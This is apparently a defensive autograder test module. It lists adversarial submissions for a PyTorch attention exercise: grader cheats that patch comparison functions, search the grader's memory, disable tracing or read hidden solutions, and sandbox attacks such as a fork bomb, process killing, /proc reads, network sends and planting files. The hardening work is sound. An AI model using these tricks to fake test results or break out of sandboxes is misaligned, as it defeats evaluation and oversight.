"""Adversarial submissions for a1_attention: code that fakes results, attacks the worker or the grader.

Every entry replaces one exercise cell (by nbgrader grade_id) of ``solutions/a1_attention/attention.ipynb``;
the rest of the notebook stays the reference solution. ``tests/test_adversarial.py`` grades each one and
asserts, besides the entry's own ``check``, that the grader finished, that no process was left behind and
that the machine around the worker (the repository, the grader, the worker server) is untouched.

A ``check`` states the outcome of **every** hidden test: the tests in ``fail`` score 0 and say ``says``;
every other test scores full marks, either because its exercise is the reference code or because the test
legitimately holds for what the cheat returned (``legit`` names those tests, with the reason).

Placeholders in a source, filled in by the test harness: ``__PORT__`` (a TCP and a UDP port the test
listens on), ``__UNIX_SOCKET__`` (a unix socket the test listens on), ``__SUBMISSION_DIR__`` (the
folder holding the graded notebook).

``weakness`` marks an entry whose correct outcome the engine does not produce yet: its test is a strict
xfail whose reason is the diagnosis.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from autograder.runner import GradeReport
from autograder.suites import load_suite

ASSIGNMENT = "a1_attention"
SUITE = load_suite(ASSIGNMENT)
EXERCISES = tuple(SUITE.exercises)
TESTS_OF = {e: [t.name for t in SUITE.tests if t.exercise == e] for e in EXERCISES}
SOFTMAX, ATTENTION, SPLIT, MERGE, MHA = (set(TESTS_OF[e]) for e in EXERCISES)
MHA_FORWARD = MHA - {"mha_structure"}  # every MultiHeadAttention test but mha_structure runs forward()
GRADIENT_TESTS = {"softmax_gradient_matches", "attention_gradients_match", "split_heads_gradient_and_input",
                  "merge_heads_gradient_and_input", "mha_gradients_match"}
# What calls what: attention calls the student's softmax; MultiHeadAttention.forward calls all four.
USES_SOFTMAX = SOFTMAX | ATTENTION | MHA_FORWARD
USES_ATTENTION = ATTENTION | MHA_FORWARD
USES_SPLIT = SPLIT | MHA_FORWARD
USES_MERGE = MERGE | MHA_FORWARD
# The usage policy (autograder/policy.py) judges whole exercises: a forbidden use costs every test of every
# exercise whose code reaches it, and module-level code is reached by all of them.
REACH_SOFTMAX = ("softmax", "scaled_dot_product_attention", "MultiHeadAttention")
REACH_MERGE = ("merge_heads", "MultiHeadAttention")


def tests_of_exercises(*exercises: str) -> set[str]:
    return {t.name for t in SUITE.tests if t.exercise in (exercises or SUITE.exercises)}


@dataclass
class Run:
    """What the harness observed while grading one case."""

    report: GradeReport
    elapsed: float                                              # seconds grade() took
    received: list[str] = field(default_factory=list)          # what the test's listeners got
    private_files: list[str] = field(default_factory=list)     # files left in the private folders of its workers


@dataclass
class Case:
    name: str
    cells: dict[str, str]
    check: Callable[[Run], None]
    time_limit: float | None = None
    needs: tuple[str, ...] = ()      # sandbox layers without which running the case would be unsafe
    weakness: str | None = None      # a known engine weakness: strict xfail with this diagnosis


# --- how a check states an outcome -------------------------------------------------------

def results(report: GradeReport) -> dict:
    return {t.name: t for t in report.tests}


def table(report: GradeReport) -> str:
    return "\n".join(f"  {t.name} ({t.score:g}/{t.max_score:g}): {t.output[:200]}" for t in report.tests)


def expect(
    run: Run,
    fail: set[str] = frozenset(),
    says: str | tuple[str, ...] = "",
    legit: dict[str, str] | None = None,
) -> None:
    """Tests in ``fail`` score 0 and their output contains ``says`` (one of them, if a tuple); every
    other test scores full marks. ``legit`` maps tests that pass although their exercise was attacked to
    the reason the points are deserved; it must not overlap ``fail``."""
    report = run.report
    got = results(report)
    every = {t.name for t in SUITE.tests}
    assert set(got) == every, f"the report lacks tests: {sorted(every - set(got))}"
    legit = legit or {}
    assert not set(legit) & set(fail), "a test cannot both fail and pass legitimately"
    phrases = (says,) if isinstance(says, str) else says
    wrong = []
    for name, t in got.items():
        if name in fail:
            if t.score != 0:
                wrong.append(f"{name} earned {t.score:g} for a fake")
            elif not any(p.lower() in t.output.lower() for p in phrases):
                wrong.append(f"{name} should say {' or '.join(map(repr, phrases))}, said {t.output[:300]!r}")
        elif t.score != t.max_score:
            why = legit.get(name, "its exercise is the reference code")
            wrong.append(f"{name} should get full marks ({why}), got {t.score:g}/{t.max_score:g}: {t.output[:300]!r}")
    assert not wrong, "\n".join(wrong) + "\nall results:\n" + table(report)


def expect_says(run: Run, tests: set[str], *phrases: str) -> None:
    """Each of ``tests`` says one of ``phrases`` (a sharper statement than ``expect``'s, for a subset)."""
    got = results(run.report)
    wrong = {n: got[n].output[:300] for n in tests if not any(p.lower() in got[n].output.lower() for p in phrases)}
    assert not wrong, f"these tests should say {' or '.join(map(repr, phrases))}: {wrong}"


def expect_diagnostic(report: GradeReport, phrase: str) -> None:
    assert any(phrase.lower() in d.lower() for d in report.diagnostics), (
        f"a diagnostic should say {phrase!r}; diagnostics: {report.diagnostics}")


# --- reference bodies the cheats reuse when they return the right values -----------------

SOFTMAX_RIGHT = "    e = (x - x.amax(dim=dim, keepdim=True)).exp()\n    result = e / e.sum(dim=dim, keepdim=True)\n"
MERGE_RIGHT = "    B, H, T, d_head = x.shape\n    result = x.transpose(1, 2).reshape(B, T, H * d_head)\n"

# =========================================================================================
# 1. Results that are not what they seem
# =========================================================================================

RETURNS_NONE = '''\
def softmax(x, dim=-1):
    e = (x - x.amax(dim=dim, keepdim=True)).exp()
    e / e.sum(dim=dim, keepdim=True)  # no return: the function gives None
'''


def check_returns_none(run: Run) -> None:
    # attention computes None @ v, so it raises; MultiHeadAttention.forward goes through attention
    expect(run, fail=USES_SOFTMAX, says=("is None", "NoneType", "unsupported operand"))
    expect_says(run, SOFTMAX, "is None")


RETURNS_A_LIST = f'''\
def merge_heads(x):
{MERGE_RIGHT}    return result.tolist()  # the right values, as nested Python lists
'''


def check_returns_a_list(run: Run) -> None:
    expect(run, fail=USES_MERGE, says=("is a list", "backpropagating", "list"))
    expect_says(run, MERGE, "is a list", "backpropagating")  # the gradient test fails on backward first


RETURNS_A_NUMPY_ARRAY = f'''\
def softmax(x, dim=-1):
{SOFTMAX_RIGHT}    return result.detach().numpy()  # the right values, as a numpy array
'''


def check_returns_a_numpy_array(run: Run) -> None:
    expect(run, fail=USES_SOFTMAX, says=("numpy", "ndarray", "backpropagating", "Tensor"))
    expect_says(run, SOFTMAX, "numpy.ndarray", "backpropagating")


RETURNS_A_BROADCASTABLE_LEADING_ONE = f'''\
def merge_heads(x):
{MERGE_RIGHT}    return result.unsqueeze(0)  # (1, B, T, d_model): broadcasts against the expected (B, T, d_model)
'''


def check_broadcastable_leading_one(run: Run) -> None:
    expect(run, fail=(MERGE | MHA_FORWARD) - {"mha_keeps_dtype_device_and_input"},
           says=("has shape (1, ", "backpropagating", "shape"),
           legit={"mha_keeps_dtype_device_and_input": "it checks only dtype, device, the input and determinism, "
                                                       "which the (1, B, T, d_model) output satisfies; "
                                                       "its shape fails mha_output_shape"})


RETURNS_A_SCALAR = '''\
def softmax(x, dim=-1):
    # a uniform distribution, as a 0-d tensor: broadcasts to any shape
    return (x.sum() * 0 + 1.0 / x.shape[dim])
'''


def check_returns_a_scalar(run: Run) -> None:
    # softmax_keeps_dtype_device_and_input was legit before issue 8 (the 0-d tensor keeps dtype, device, the input
    # and determinism); it no longer pays: 1 / x.shape[dim] is the same for every input of a shape.
    expect(run, fail=USES_SOFTMAX, says=("shape", "matmul", "1D", "dimension", "whatever its input"))
    expect_says(run, SOFTMAX - {"softmax_keeps_dtype_device_and_input"}, "has shape ()")
    expect_says(run, {"softmax_keeps_dtype_device_and_input"}, "no points: softmax returned the same values")


RIGHT_VALUES_WRONG_DTYPE = f'''\
def softmax(x, dim=-1):
{SOFTMAX_RIGHT}    return result.to(torch.float64)  # always float64: right values, wrong dtype for float32 inputs
'''

_DTYPE_LEGIT = "float64 inputs only, or float32 values compared with float32 tolerance: the values are right"


def check_right_values_wrong_dtype(run: Run) -> None:
    failing = {"softmax_matches_reference", "softmax_keeps_dtype_device_and_input",
               "attention_matches_reference_float32", "attention_is_stable_for_large_scores",
               "attention_keeps_dtype_device_and_inputs", "mha_matches_in_float32", "mha_keeps_dtype_device_and_input"}
    expect(run, fail=failing, says=("dtype float64, expected float32", "float32", "dtype", "same dtype", "scalar type"),
           legit={"softmax_is_stable_for_large_inputs": _DTYPE_LEGIT})


NAN_EVERYWHERE = '''\
def softmax(x, dim=-1):
    return torch.full_like(x, float("nan")) + 0 * x  # NaN, still attached to the graph
'''


def check_nan_everywhere(run: Run) -> None:
    shape_only = "checks only shapes, which a NaN tensor of the right shape has"
    # attention_keeps_dtype_device_and_inputs was legit before issue 8 (dtype, device and inputs hold for NaN);
    # it no longer pays: attention returned NaN whatever its input, and a hygiene check pays only for live code.
    expect(run, fail=USES_SOFTMAX - {"softmax_keeps_shape", "attention_shapes", "mha_output_shape"},
           says=("non-finite", "nan", "differs"),
           legit={"softmax_keeps_shape": shape_only, "attention_shapes": shape_only, "mha_output_shape": shape_only})


INF_IN_ONE_ENTRY = f'''\
def merge_heads(x):
{MERGE_RIGHT}    result = result.clone()
    result[0, 0, 0] = float("inf")  # one poisoned entry
    return result
'''


def check_inf_in_one_entry(run: Run) -> None:
    legit = {"merge_heads_shape": "a shape test; the shape is right",
             "mha_output_shape": "a shape test; the shape is right"}
    expect(run, fail=USES_MERGE - set(legit), says=("non-finite", "inf", "nan", "differs"), legit=legit)


DETACHED = f'''\
def softmax(x, dim=-1):
{SOFTMAX_RIGHT}    return result.detach()  # right values, cut off from autograd
'''


def check_detached(run: Run) -> None:
    expect(run, fail={"softmax_gradient_matches", "attention_gradients_match", "mha_gradients_match"},
           says=("backpropagating", "detached", "differs", "gradient"))


MUTATES_INPUT_THROUGH_DATA = f'''\
def merge_heads(x):
{MERGE_RIGHT}    result = result.clone()
    x.data.zero_()  # wipe the caller's tensor behind autograd's back
    return result
'''


def check_mutates_input_through_data(run: Run) -> None:
    # MultiHeadAttention passes attention's output, an intermediate: zeroing it changes nothing the test sees
    expect(run, fail={"merge_heads_gradient_and_input"}, says="modified in place")


SUBTRACTS_IN_PLACE = '''\
def softmax(x, dim=-1):
    x -= x.amax(dim=dim, keepdim=True)  # modifies the caller's tensor
    e = x.exp()
    return e / e.sum(dim=dim, keepdim=True)
'''


def check_subtracts_in_place(run: Run) -> None:
    # attention and MultiHeadAttention pass an intermediate (the scores): their forward values stay right,
    # but amax saved the scores for backward, so their gradient tests fail, as autograd says
    expect(run, fail={"softmax_gradient_matches", "softmax_keeps_dtype_device_and_input", "attention_gradients_match",
                      "mha_gradients_match"},
           says=("modified in place", "in-place", "leaf Variable", "modified by an inplace operation"))


PLAIN_SUBCLASS_WITH_RIGHT_VALUES = f'''\
class Probabilities(torch.Tensor):
    """A tensor that knows it is a distribution."""


def softmax(x, dim=-1):
{SOFTMAX_RIGHT}    return result.as_subclass(Probabilities)
'''


def check_plain_subclass(run: Run) -> None:
    # Verdict changed with the usage policy (issue 8): .as_subclass is torch API outside softmax's allowlist, so
    # softmax and the exercises that call it score 0 (the returned subclass was rejected test by test before).
    expect(run, fail=tests_of_exercises(*REACH_SOFTMAX), says=("forbidden use: .as_subclass",))


LYING_SUBCLASS = '''\
class Agreeable(torch.Tensor):
    """Equal and close to anything it is compared with."""

    def __eq__(self, other):
        return True

    __hash__ = torch.Tensor.__hash__

    def allclose(self, *args, **kwargs):
        return True

    def equal(self, *args, **kwargs):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq", "__eq__", "assert_close"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def merge_heads(x):
    B, H, T, d_head = x.shape
    return torch.zeros(B, T, H * d_head, dtype=x.dtype).as_subclass(Agreeable)
'''


def check_lying_subclass(run: Run) -> None:
    # Verdict changed with the usage policy (issue 8): .as_subclass is outside merge_heads' allowlist.
    expect(run, fail=tests_of_exercises(*REACH_MERGE), says=("forbidden use: .as_subclass",))


PATCHES_COMPARISONS = '''\
import torch.testing

# Whatever compares results in this process now sees a match.
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda self, *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.Tensor.equal = lambda self, *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)


def softmax(x, dim=-1):
    return x * 0  # wrong, but "equal" to anything
'''


def check_patches_comparisons(run: Run) -> None:
    # Verdict changed with the usage policy (issue 8): the patches are module-level code, which every exercise
    # runs, and they reach torch.testing, so every exercise scores 0. (Before, the verdicts computed in the
    # grader's unpatched process failed every value test of the x * 0 softmax and its callers.)
    expect(run, fail=tests_of_exercises(), says=("forbidden use: torch.testing",))


# =========================================================================================
# 2. Looking for the expected values, or for the grader's machinery, from inside the worker
# =========================================================================================

WALKS_STACK_FRAMES = '''\
import inspect
import sys


def softmax(x, dim=-1):
    """Search the grader's frames above this call for its expected value."""
    frames = [sys._getframe(1)] + [info.frame for info in inspect.stack()[1:]]
    theirs = [f for f in frames if not f.f_code.co_filename.startswith("<cell")]
    for frame in theirs:
        for name, value in frame.f_locals.items():
            if name in ("want", "expected", "reference", "oracle"):
                return value
            if isinstance(value, torch.Tensor) and value is not x and value.shape == x.shape:
                return value
    raise LookupError(f"searched {len(theirs)} frames: no expected value in the worker")
'''


def check_walks_stack_frames(run: Run) -> None:
    expect(run, fail=USES_SOFTMAX, says=("LookupError", "no expected value"))


SCANS_GC_OBJECTS = '''\
import gc


def merge_heads(x):
    """Search every live object for the grader's expected values, or for its hidden suite."""
    objects = gc.get_objects()
    for obj in objects:
        if isinstance(obj, dict):
            for key in ("want", "expected", "oracle"):
                if isinstance(obj.get(key), torch.Tensor):
                    return obj[key]
        if type(obj).__name__ == "module" and obj.__name__.startswith("autograder.suites"):
            return obj.reference_split(x.transpose(1, 2).flatten(2), x.shape[1])
    raise LookupError(f"searched {len(objects)} objects: no expected value in the worker")
'''


def check_scans_gc_objects(run: Run) -> None:
    expect(run, fail=USES_MERGE, says="no expected value in the worker")


# F.softmin(-x) is softmax(x). The torch function mode sees only the outermost call (softmin), not the
# Tensor.softmax it makes inside, so the forbidden built-in goes unseen.
SOFTMIN_EVADES_THE_TRACE = '''\
def softmax(x, dim=-1):
    return torch.nn.functional.softmin(-x, dim=dim)  # softmin(-x) == softmax(x)
'''


def check_forbidden_softmax(run: Run) -> None:
    # a1's rule holds for the whole program (issue 8): the run-time trace now fails attention's and
    # MultiHeadAttention.forward's tests too, as they call the student's softmax.
    expect(run, fail=USES_SOFTMAX, says=("softmax", "softmin", "forbid", "may not use"))


def check_forbidden_softmax_seen_statically(run: Run) -> None:
    # The usage policy (issue 8) charges a forbidden use it reads in the code to every test of every exercise
    # whose code reaches it: attention and MultiHeadAttention call the student's softmax.
    expect(run, fail=tests_of_exercises(*REACH_SOFTMAX), says=("softmin", "a built-in softmax"))


def check_forbidden_softmax_or_flagged(run: Run) -> None:
    """The README's contract: the trace catches a forbidden built-in however it was reached, unless the code
    dismantles the trace, which needs a reach the static scan flags for review."""
    if not run.report.review:
        check_forbidden_softmax(run)


# A forbidden call the static scan cannot read (no literal "softmax" anywhere) but the trace catches:
# TRACED_CONTROL shows it; the DISABLES_* variants first switch the trace off through the worker's own objects.
_SOFTMAX_BY_LOOKUP = '''\
    builtin = dict(inspect.getmembers(torch.nn.functional))["soft" + "max"]  # no literal name for the scan
    return builtin(x, dim=dim)
'''

TRACED_CONTROL = f'''\
import inspect


def softmax(x, dim=-1):
{_SOFTMAX_BY_LOOKUP}'''

DISABLES_TRACE_THROUGH_FRAMES = f'''\
import inspect
import sys


def softmax(x, dim=-1):
    frame = sys._getframe(1)
    while frame is not None:  # find the worker's request loop and blind its tracer
        owner = frame.f_locals.get("self")
        if hasattr(owner, "tracer"):
            owner.tracer.names = set()
        frame = frame.f_back
{_SOFTMAX_BY_LOOKUP}'''

DISABLES_TRACE_THROUGH_GC = f'''\
import gc
import inspect


_blinded = False


def softmax(x, dim=-1):
    global _blinded
    if not _blinded:  # once per worker: find the tracer among the worker's objects, empty its watch list
        _blinded = True
        for obj in gc.get_objects():
            if type(obj).__name__ == "Tracer" and isinstance(getattr(obj, "names", None), set):
                obj.names.clear()
{_SOFTMAX_BY_LOOKUP}'''


# =========================================================================================
# 3. Leaving early: exits, interrupts, pytest's own exceptions
# =========================================================================================

SYS_EXIT = f'''\
import sys


def merge_heads(x):
{MERGE_RIGHT}    sys.exit(0)
'''


def check_sys_exit(run: Run) -> None:
    expect(run, fail=USES_MERGE, says="SystemExit")


OS_EXIT = '''\
import os


def split_heads(x, n_heads):
    os._exit(0)
'''


def check_os_exit(run: Run) -> None:
    expect(run, fail=USES_SPLIT, says="worker process died")


KEYBOARD_INTERRUPT = '''\
def softmax(x, dim=-1):
    raise KeyboardInterrupt
'''


def check_keyboard_interrupt(run: Run) -> None:
    expect(run, fail=USES_SOFTMAX, says="KeyboardInterrupt")


PYTEST_EXIT = '''\
def scaled_dot_product_attention(q, k, v):
    import pytest  # the worker may not have it: then the ImportError is the outcome

    pytest.exit("all tests passed", returncode=0)
'''


def check_pytest_exit(run: Run) -> None:
    expect(run, fail=USES_ATTENTION, says=("raised Exit", "ImportError", "ModuleNotFoundError"))


PYTEST_SKIP = '''\
def merge_heads(x):
    import pytest  # the worker may not have it: then the ImportError is the outcome

    pytest.skip("merge_heads is optional")
'''


def check_pytest_skip(run: Run) -> None:
    expect(run, fail=USES_MERGE, says=("raised Skipped", "ImportError", "ModuleNotFoundError"))


OS_EXIT_AT_TOP_LEVEL = '''\
import os

os._exit(0)  # at the top level of the cell: every worker dies while loading the notebook


def softmax(x, dim=-1):
    e = (x - x.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
'''


def check_os_exit_at_top_level(run: Run) -> None:
    # Every worker runs every cell, so none can load the notebook: nothing can be graded, and each
    # test says why (rather than a misleading "not defined").
    expect(run, fail={t.name for t in SUITE.tests}, says="while its cells were loading")


SYS_EXIT_AT_TOP_LEVEL = f'''\
import sys

sys.exit(0)  # stops this cell before merge_heads is defined; the other cells still run


def merge_heads(x):
{MERGE_RIGHT}    return result
'''


def check_sys_exit_at_top_level(run: Run) -> None:
    expect(run, fail=USES_MERGE, says="not defined")
    expect_diagnostic(run.report, "your merge_heads cell")
    expect_diagnostic(run.report, "did not run: SystemExit")


# =========================================================================================
# 4. Resources: time, memory, processes, output, message size, the worker's own socket
# =========================================================================================

INFINITE_LOOP = '''\
def merge_heads(x):
    while True:
        pass
'''

TIME_LIMIT = 1.5


def check_infinite_loop(run: Run) -> None:
    expect(run, fail=USES_MERGE, says="time limit")
    bound = len(USES_MERGE) * TIME_LIMIT + 20  # every hanging test costs its limit; the rest runs in seconds
    assert run.elapsed < bound, f"grading took {run.elapsed:.1f} s, more than {bound:.0f} s"


SLEEPS_IGNORING_SIGTERM = '''\
import signal
import time


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, n_heads, bias=True):
        super().__init__()
        self.n_heads = n_heads
        self.q_proj = nn.Linear(d_model, d_model, bias=bias)
        self.k_proj = nn.Linear(d_model, d_model, bias=bias)
        self.v_proj = nn.Linear(d_model, d_model, bias=bias)
        self.out_proj = nn.Linear(d_model, d_model, bias=bias)

    def forward(self, x):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)  # a polite kill will not do
        time.sleep(3600)
'''


def check_sleeps_ignoring_sigterm(run: Run) -> None:
    # mha_structure fails too since the hidden suite enforces the notebook's rule that MultiHeadAttention(21, 4)
    # raise ValueError (issue 8, point 6): this module never checks divisibility.
    expect(run, fail=MHA_FORWARD | {"mha_structure"}, says=("time limit", "did not raise"))
    bound = len(MHA_FORWARD) * TIME_LIMIT + 20
    assert run.elapsed < bound, f"grading took {run.elapsed:.1f} s, more than {bound:.0f} s"


ALLOCATES_8_GIB = f'''\
def merge_heads(x):
    hoard = torch.empty(2**31, dtype=torch.float32)  # 8 GiB of address space
{MERGE_RIGHT}    return result
'''


def check_allocates_8_gib(run: Run) -> None:
    expect(run, fail=USES_MERGE, says=("RuntimeError", "MemoryError", "allocate"))


FORK_BOMB = '''\
import os


def split_heads(x, n_heads):
    while True:
        os.fork()
'''


def check_fork_bomb(run: Run) -> None:
    expect(run, fail=USES_SPLIT, says=("BlockingIOError", "Resource temporarily unavailable"))
    assert run.elapsed < 30, f"a fork bomb should stop at its first fork; grading took {run.elapsed:.1f} s"


LEAVES_ORPHANS = f'''\
import os
import signal
import subprocess
import time


def _linger():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(1)


def _leave_orphans():
    """Every way to start a process that outlives this one; errors are ignored."""
    try:
        if os.fork() == 0:          # double fork, new session: the classic daemon
            os.setsid()
            if os.fork() == 0:
                _linger()
            os._exit(0)
    except OSError:
        pass
    for spawn in (lambda: subprocess.Popen(["/bin/sleep", "600"], start_new_session=True),
                  lambda: os.posix_spawn("/bin/sleep", ["sleep", "600"], dict(os.environ))):
        try:
            spawn()
        except OSError:
            pass


def merge_heads(x):
    _leave_orphans()
{MERGE_RIGHT}    return result
'''


def check_leaves_orphans(run: Run) -> None:
    expect(run)  # the values are right; the harness checks that no process outlived the grading


PRINTS_100_MB = f'''\
import os
import sys

_CHUNK = "all tests passed " * 61681  # about 1 MB


def _flood():
    for _ in range(100):
        print(_CHUNK)
    os.write(1, _CHUNK.encode())
    print(_CHUNK, file=sys.__stderr__)


_flood()  # 100 MB while the notebook loads, in every worker
_flooded = False


def merge_heads(x):
    global _flooded
    if not _flooded:  # and 100 MB more on the first call in each worker
        _flooded = True
        _flood()
{MERGE_RIGHT}    return result
'''


def check_prints_100_mb(run: Run) -> None:
    expect(run)
    assert all(len(t.output) < 1000 for t in run.report.tests)
    assert all(len(d) < 1000 for d in run.report.diagnostics)


OVERSIZED_RESULT = '''\
def merge_heads(x):
    return torch.zeros(150 * 2**20, dtype=torch.float32)  # 600 MiB: more than a message may carry
'''


def check_oversized_result(run: Run) -> None:
    # The worker refuses to send it (before building a message the grader would refuse unread).
    expect(run, fail=USES_MERGE, says=("more than the grader accepts", "shapes cannot be multiplied", "mat1"))
    expect_says(run, MERGE, "more than the grader accepts")


GARBAGE_TO_FILE_DESCRIPTORS = f'''\
import os


def _scribble():
    fds = set(range(11))
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{{name}}").startswith("socket:"):
                fds.add(int(name))  # the worker's line to the grader
        except OSError:
            pass
    for fd in sorted(fds):
        try:
            os.write(fd, b"\\xff" * 64 + b"garbage")
        except OSError:
            pass


def merge_heads(x):
    _scribble()
{MERGE_RIGHT}    return result
'''


def check_garbage_to_file_descriptors(run: Run) -> None:
    expect(run, fail=USES_MERGE, says="unreadable result")


# A well-formed frame whose JSON header nests 100 000 lists deep: the grader's json.loads hits the
# recursion limit. It must count as an unreadable result, not as an error of the grader itself.
FORGED_DEEP_JSON_FRAME = f'''\
import os
import struct


def _forge():
    head = b"[" * 100_000 + b"]" * 100_000
    frame = struct.pack("<I", len(head)) + head
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{{name}}").startswith("socket:"):
                os.write(int(name), struct.pack("<Q", len(frame)) + frame)
        except OSError:
            pass


def merge_heads(x):
    _forge()
{MERGE_RIGHT}    return result
'''


def check_forged_deep_json_frame(run: Run) -> None:
    expect(run, fail=USES_MERGE, says="unreadable result")
    internal = [d for d in run.report.diagnostics if "internal error" in d]
    assert not internal, f"a forged message was blamed on the grader: {internal[0][:300]}"


# =========================================================================================
# 5. Reaching out: the disk, the network, other processes
# =========================================================================================

READS_HIDDEN_SUITE = '''\
import os
import sys


def _repository():
    """Where the grader lives: the worker imported the engine from it, and PYTHONPATH names it."""
    engine = sys.modules["autograder.worker.runtime"].__file__
    return os.path.dirname(os.path.dirname(os.path.dirname(engine)))


def _ancestors():
    """The worker server, the grader that started it, and so on up."""
    pid, chain = os.getpid(), []
    while len(chain) < 4:
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            break
        chain.append(pid)
    return chain


def softmax(x, dim=-1):
    repo, outcomes = _repository(), []
    paths = [os.path.join(repo, "autograder", "suites", "a1_attention", "test_softmax.py"),
             os.path.join(repo, "solutions", "a1_attention", "attention.ipynb"),
             os.path.join(os.environ.get("PYTHONPATH", repo), "solutions", "a1_attention", "attention.ipynb")]
    for pid in _ancestors():  # through the grader's own view of the file system, and its memory
        paths += [f"/proc/{pid}/cwd/autograder/suites/a1_attention/test_softmax.py", f"/proc/{pid}/environ",
                  f"/proc/{pid}/mem"]
    for path in paths:
        try:
            with open(path, "rb") as f:
                text = f.read(2**22).decode(errors="replace")
        except OSError as exc:
            outcomes.append(type(exc).__name__)
            continue
        if "BEGIN SOLUTION" in text:  # the solutions: run their softmax
            import json
            cells = ["".join(c["source"]) for c in json.loads(text)["cells"]]
            namespace = {"torch": torch}
            exec(next(c for c in cells if c.startswith("def softmax")), namespace)
            return namespace["softmax"](x, dim)
        raise RuntimeError(f"LEAKED {path}: read {len(text)} characters")  # never the content itself
    try:
        import autograder.suites.a1_attention as hidden
        raise RuntimeError(f"LEAKED the hidden suite through import: {len(hidden.__doc__)} characters")
    except (ImportError, OSError) as exc:
        outcomes.append(type(exc).__name__)
    raise PermissionError("could not read the hidden files: " + ", ".join(outcomes))
'''


def check_reads_hidden_suite(run: Run) -> None:
    # With a private /proc (hidepid=invisible, issue 8 point 5) the worker's ancestors have no /proc entry at all,
    # so _ancestors itself fails before any path is tried: the same verdict, said by a FileNotFoundError.
    expect(run, fail=USES_SOFTMAX, says=("could not read the hidden files", "No such file or directory: '/proc/"))
    text = "\n".join(t.output for t in run.report.tests) + "\n".join(run.report.diagnostics)
    assert "LEAKED" not in text and "oracle" not in text


NETWORK = '''\
import socket


def merge_heads(x):
    outcomes = []
    try:  # TCP to the grader's machine
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as s:
            s.sendall(b"tcp: " + x.detach().numpy().tobytes()[:64])
        outcomes.append("tcp connected")
    except OSError as exc:
        outcomes.append(f"tcp {type(exc).__name__}")
    try:  # UDP needs no connection: Landlock does not cover it
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"udp: " + x.detach().numpy().tobytes()[:64], ("127.0.0.1", __PORT__))
        outcomes.append("udp sent")
    except OSError as exc:
        outcomes.append(f"udp {type(exc).__name__}")
    raise ConnectionError("network: " + ", ".join(outcomes))
'''


def check_network(run: Run) -> None:
    assert not run.received, f"the worker reached the test's listeners: {run.received}"
    expect(run, fail=USES_MERGE, says="network: tcp")


UNIX_SOCKET = '''\
import socket


def merge_heads(x):
    try:  # a unix socket by path: no network namespace or TCP rule is involved
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect("__UNIX_SOCKET__")
            s.sendall(b"unix: " + x.detach().numpy().tobytes()[:64])
        outcome = "connected"
    except OSError as exc:
        outcome = type(exc).__name__
    raise ConnectionError("unix socket: " + outcome)
'''


def check_unix_socket(run: Run) -> None:
    assert not run.received, f"the worker reached the test's unix socket: {run.received}"
    expect(run, fail=USES_MERGE, says="unix socket:")


KILLS_ITS_PARENT = '''\
import os
import signal


def merge_heads(x):
    os.kill(os.getppid(), signal.SIGKILL)  # the worker server
    raise RuntimeError("killed the worker server")
'''


def check_kills_parent(run: Run) -> None:
    expect(run, fail=USES_MERGE, says=("PermissionError", "Operation not permitted"))


KILLS_THE_GRADER = '''\
import os
import signal


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def merge_heads(x):
    server = os.getppid()
    grader = _parent_of(server)  # the process that started the worker server
    outcomes = []
    for how in ("kill", "pidfd"):
        try:
            if how == "kill":
                os.kill(grader, signal.SIGKILL)
            else:
                signal.pidfd_send_signal(os.pidfd_open(grader), signal.SIGKILL)
            outcomes.append(f"{how} sent")
        except OSError as exc:
            outcomes.append(f"{how} {type(exc).__name__}")
    raise RuntimeError("signals to the grader: " + ", ".join(outcomes))
'''


def check_kills_the_grader(run: Run) -> None:
    # With a private /proc (hidepid=invisible, issue 8 point 5) the server's /proc entry is gone, so the grader's
    # pid cannot even be found (kills_its_parent still shows that signals outside the sandbox are refused).
    expect(run, fail=USES_MERGE, says=("signals to the grader: kill PermissionError, pidfd PermissionError",
                                       "No such file or directory: '/proc/"))


WRITES_FILES = f'''\
import os
import sys

_PLANTS = {{
    "results.json": '{{"score": 1000, "tests": []}}\\n',
    "conftest.py": "# planted by a submission\\n",
    "torch.py": "# planted by a submission\\n",
}}


def _plant():
    engine = sys.modules["autograder.worker.runtime"].__file__
    repo = os.path.dirname(os.path.dirname(os.path.dirname(engine)))
    outside = [os.path.dirname(os.getcwd()), repo, os.path.join(repo, "tests"),
               os.path.join(repo, "solutions", "a1_attention"), "__SUBMISSION_DIR__"]
    for name, text in _PLANTS.items():  # its own folder first: this must work, or the probe proves nothing
        with open(name, "w") as f:
            f.write(text)
    for folder in outside:
        for name, text in _PLANTS.items():
            try:
                with open(os.path.join(folder, name), "x") as f:
                    f.write(text)
            except OSError:
                pass


def merge_heads(x):
    _plant()
{MERGE_RIGHT}    return result
'''


READS_OTHER_WORKERS_FOLDERS = '''\
import os

with open("scratch.txt", "w") as f:  # every worker leaves a note in its own folder while loading
    f.write(f"written by worker {os.getpid()}")


def merge_heads(x):
    mine, found = os.getcwd(), []
    try:
        parent = os.path.dirname(mine)
        for folder in os.listdir(parent):
            path = os.path.join(parent, folder)
            if path != mine and folder.startswith("grader-worker-"):
                for name in os.listdir(path):
                    with open(os.path.join(path, name)) as f:
                        found.append(f.read(64))
    except PermissionError as exc:
